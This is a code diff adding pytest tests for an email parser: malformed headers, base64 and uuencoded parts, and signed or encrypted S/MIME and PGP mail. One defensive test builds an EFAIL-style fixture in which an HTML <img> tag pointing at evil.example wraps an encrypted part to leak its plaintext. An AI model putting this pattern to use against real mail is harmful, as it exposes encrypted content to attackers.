@@ -294,6 +294,100 @@ class TestBodies:
         assert (read.fully_read, "text_cut" in read.defects) == (False, True)
 
 
+class TestBrokenForms:
+    """What programs and servers do to mails that once were well-formed."""
+
+    def test_behind_a_line_that_breaks_the_headers_the_form_of_the_body_is_found(self) -> None:
+        read = letter(
+            "From: a@x.example\nSubject: s\nTo: b@x.example\nno header at all\n"
+            "Content-Type: text/plain; charset=utf-8\n"
+            "Content-Transfer-Encoding: quoted-printable\n\nd=C3=A9j=C3=A0"
+        )
+        assert (read.subject, read.text) == ("s", "déjà")
+        assert "broken_headers" in read.defects
+
+    @pytest.mark.parametrize("blank", ["", "\n"])
+    def test_base64_that_begins_in_the_headers_is_opened(self, blank: str) -> None:
+        encoded = base64.encodebytes("Où en est ma demande de droit passerelle ?".encode()).decode()
+        head = "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n"
+        assert letter(f"From: a@x.example\nSubject: s\n{head}{blank}{encoded}").text.startswith(
+            "Où"
+        )
+        assert mixed(f"{head}{blank}{encoded}").text.startswith("Où")
+
+    def test_the_first_subject_that_says_something_counts(self) -> None:
+        assert letter("Subject:\nSubject: Report\nSubject: Autre\n\nx").subject == "Report"
+
+    @pytest.mark.parametrize("codec", ["utf-16", "utf-8-sig"])
+    def test_a_byte_order_mark_is_a_declaration(self, codec: str) -> None:
+        raw = b"From: a@x.example\nContent-Type: text/plain\n\n" + "Où ça ?".encode(codec)
+        assert letter(raw).text == "Où ça ?"
+
+    @pytest.mark.parametrize("name", ["x-uuencode", "uuencode", "X-UUE"])
+    def test_a_uuencoded_part_is_decoded(self, name: str) -> None:
+        head = f"Content-Type: application/pdf; name=a.pdf\nContent-Transfer-Encoding: {name}\n\n"
+        read = mixed(f"{head}begin 644 a.pdf\n#86)C\n`\nend")
+        assert [(file.name, file.content) for file in read.attachments] == [("a.pdf", b"abc")]
+
+    def test_of_thousands_of_uuencoded_files_some_hundreds_are_taken(self) -> None:
+        read = letter("From: a@x.example\n\n" + "begin 644 a.pdf\n#86)C\n`\nend\n" * 5_000)
+        assert len(read.attachments) == 500
+        assert read.attachments[0].content_type == "application/pdf"
+
+    def test_a_named_text_is_read_when_there_is_no_other(self) -> None:
+        part = "Content-Type: text/plain; name=message.txt\n\nOù en est ma demande ?"
+        read = mixed(part, "Content-Type: image/png\n\nx")
+        assert read.text == "Où en est ma demande ?"
+        assert [file.name for file in read.attachments] == ["message.txt", "part-2.png"]
+
+    def test_one_text_in_two_forms_that_are_not_called_so_is_read_once(self) -> None:
+        read = mixed("Content-Type: text/plain\n\nBonjour", "Content-Type: text/html\n\n<p>Bonjour")
+        assert read.text == "Bonjour"
+
+    def test_a_text_that_only_asks_to_read_the_html_gives_way(self) -> None:
+        read = mixed(
+            "Content-Type: text/plain\n\nDit bericht is opgemaakt in HTML.",
+            "Content-Type: text/html\n\n<p>Kan ik uitstel krijgen voor april?",
+            kind="alternative",
+        )
+        assert read.text == "Kan ik uitstel krijgen voor april?"
+
+
+class TestSealedMail:
+    """Signed and encrypted mail shows what lies open; the rest is files, and no seal is trusted."""
+
+    def test_the_text_of_a_signed_mail_is_read_and_its_seal_is_a_file(self) -> None:
+        inner = (
+            "Content-Type: multipart/alternative; boundary=c\n\n--c\n\nBonjour\n"
+            "--c\nContent-Type: text/html\n\n<p>Bonjour</p>\n--c--"
+        )
+        seal = "Content-Type: application/pkcs7-signature; name=smime.p7s\n\nx"
+        read = mixed(inner, seal, kind="signed")
+        assert (read.text, [file.name for file in read.attachments]) == ("Bonjour", ["smime.p7s"])
+
+    def test_an_encrypted_mail_is_its_files(self) -> None:
+        read = mixed(
+            "Content-Type: application/pgp-encrypted\n\nVersion: 1",
+            "Content-Type: application/octet-stream; name=encrypted.asc\n\nx",
+            kind="encrypted",
+        )
+        assert (read.text, len(read.attachments)) == ("", 2)
+        assert "no_visible_text" in read.defects
+
+    def test_a_sealed_envelope_is_one_file(self) -> None:
+        head = "From: a@x.example\nContent-Type: application/pkcs7-mime; name=smime.p7m\n"
+        read = letter(f"{head}Content-Transfer-Encoding: base64\n\nMIAG")
+        assert [file.name for file in read.attachments] == ["smime.p7m"]
+
+    def test_nothing_is_joined_with_an_encrypted_part(self) -> None:
+        read = mixed(
+            "Content-Type: text/html\n\n<img src='https://evil.example/?",
+            "Content-Type: application/pkcs7-mime; name=smime.p7m\n\nsecret",
+            "Content-Type: text/html\n\n'>",
+        )
+        assert "secret" not in read.text and "secret" not in (read.html or "")
+
+
 class TestAttachments:
     @pytest.mark.parametrize(
         ("disposition", "name"),
